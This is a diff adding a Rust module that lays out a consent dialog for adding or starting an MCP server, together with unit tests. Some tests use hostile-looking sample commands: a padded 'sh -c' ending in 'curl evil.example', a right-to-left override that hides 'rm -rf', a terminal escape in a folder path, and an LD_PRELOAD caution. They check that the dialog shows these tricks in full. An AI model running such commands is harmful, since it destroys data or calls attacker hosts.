@@ -1,0 +1,155 @@
+//! What a consent dialog shows and offers, in order; it draws nothing.
+
+use app::desk::{About, Consent, ConsentQuestion};
+
+use super::words;
+
+/// Everything on the dialog, fit to be shown.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct Sheet {
+    /// The title of its window, always ours.
+    pub(super) window: &'static str,
+    /// The first line, ours, with the server's title in it.
+    pub(super) heading: String,
+    /// The whole command or address: never cut, with nothing hidden in it.
+    pub(super) command: String,
+    /// What else belongs to it: a label of ours and a text.
+    pub(super) facts: Vec<(&'static str, String)>,
+    /// What to know before saying yes.
+    pub(super) cautions: Vec<String>,
+    /// What binds the yes to what is shown.
+    pub(super) digest: String,
+    /// The buttons from left to right. The first is the default.
+    pub(super) choices: &'static [Choice],
+}
+
+/// One button.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) struct Choice {
+    /// What is on it; `_` stands before the key that presses it.
+    pub(super) label: &'static str,
+    /// What pressing it says.
+    pub(super) says: Consent,
+}
+
+const CANCEL: Choice = Choice { label: words::CANCEL, says: Consent::Cancel };
+
+const TO_ADD: &[Choice] = &[
+    CANCEL,
+    Choice { label: words::ADD_ONLY, says: Consent::AddOnly },
+    Choice { label: words::ADD_AND_START, says: Consent::Start },
+];
+
+const TO_START: &[Choice] = &[CANCEL, Choice { label: words::START, says: Consent::Start }];
+
+impl Choice {
+    /// Whether it lets something happen. Such a button is dead at first and deaf to Enter.
+    pub(super) fn allows(self) -> bool {
+        match self.says {
+            Consent::Cancel => false,
+            Consent::AddOnly | Consent::Start => true,
+        }
+    }
+}
+
+impl Sheet {
+    /// The dialog for a question.
+    pub(super) fn of(question: &ConsentQuestion) -> Self {
+        let plan = &question.plan;
+        let (window, heading, choices) = match question.about {
+            About::Adding => (words::ADDING, words::adding(&plan.title), TO_ADD),
+            About::Starting => (words::STARTING, words::starting(&plan.title), TO_START),
+        };
+        let mut facts = Vec::new();
+        if let Some(folder) = &plan.cwd {
+            facts.push((words::FOLDER, stdx::text::visible(folder)));
+        }
+        if !plan.names.is_empty() {
+            let names: Vec<_> = plan.names.iter().map(|it| stdx::text::visible(it)).collect();
+            facts.push((words::NAMES, names.join(", ")));
+        }
+        Self {
+            window,
+            heading,
+            command: stdx::text::visible(&plan.line),
+            facts,
+            cautions: plan.cautions.iter().map(words::caution).collect(),
+            digest: plan.digest.clone(),
+            choices,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use model::plan::{Caution, LaunchPlan};
+
+    use super::*;
+
+    fn question(about: About) -> ConsentQuestion {
+        let plan = LaunchPlan {
+            title: "Everything".to_owned(),
+            line: "npx -y @modelcontextprotocol/server-everything".to_owned(),
+            cwd: None,
+            names: Vec::new(),
+            cautions: Vec::new(),
+            digest: "ab12".to_owned(),
+        };
+        ConsentQuestion { plan, about }
+    }
+
+    #[test]
+    fn cancel_comes_first_and_allows_nothing() {
+        for about in [About::Adding, About::Starting] {
+            let sheet = Sheet::of(&question(about));
+            let allows: Vec<_> = sheet.choices.iter().map(|it| it.allows()).collect();
+            assert_eq!(allows.iter().position(|it| !it), Some(0), "{about:?}");
+            assert_eq!(allows.iter().filter(|it| !**it).count(), 1, "{about:?}");
+        }
+    }
+
+    #[test]
+    fn only_adding_offers_to_add_without_a_start() {
+        let says = |about| -> Vec<_> {
+            Sheet::of(&question(about)).choices.iter().map(|it| it.says).collect()
+        };
+        assert_eq!(says(About::Adding), [Consent::Cancel, Consent::AddOnly, Consent::Start]);
+        assert_eq!(says(About::Starting), [Consent::Cancel, Consent::Start]);
+    }
+
+    #[test]
+    fn the_command_is_whole_however_long_it_is() {
+        let mut long = question(About::Adding);
+        long.plan.line = format!("sh -c '{}; curl evil.example'", "true; ".repeat(20_000));
+        assert_eq!(Sheet::of(&long).command, long.plan.line);
+    }
+
+    #[test]
+    fn nothing_in_the_command_can_hide() {
+        let mut sly = question(About::Adding);
+        sly.plan.line = "ls \u{202e}fr- mr\n\u{200b}".to_owned();
+        sly.plan.names = vec!["A\u{200d}B".to_owned(), "PATH".to_owned()];
+        sly.plan.cwd = Some("/tmp/\u{1b}[2J".to_owned());
+        let sheet = Sheet::of(&sly);
+        assert_eq!(sheet.command, "ls \\u{202e}fr- mr\\n\\u{200b}");
+        assert_eq!(
+            sheet.facts,
+            [
+                (words::FOLDER, "/tmp/\\x1b[2J".to_owned()),
+                (words::NAMES, "A\\u{200d}B, PATH".to_owned()),
+            ]
+        );
+    }
+
+    #[test]
+    fn every_caution_is_told() {
+        let mut odd = question(About::Starting);
+        odd.plan.cautions = vec![
+            Caution::Unpinned("left-pad".to_owned()),
+            Caution::Loader("LD_PRELOAD".to_owned()),
+        ];
+        let cautions = Sheet::of(&odd).cautions;
+        assert!(cautions[0].contains("left-pad"), "{cautions:?}");
+        assert!(cautions[1].contains("LD_PRELOAD"), "{cautions:?}");
+    }
+}
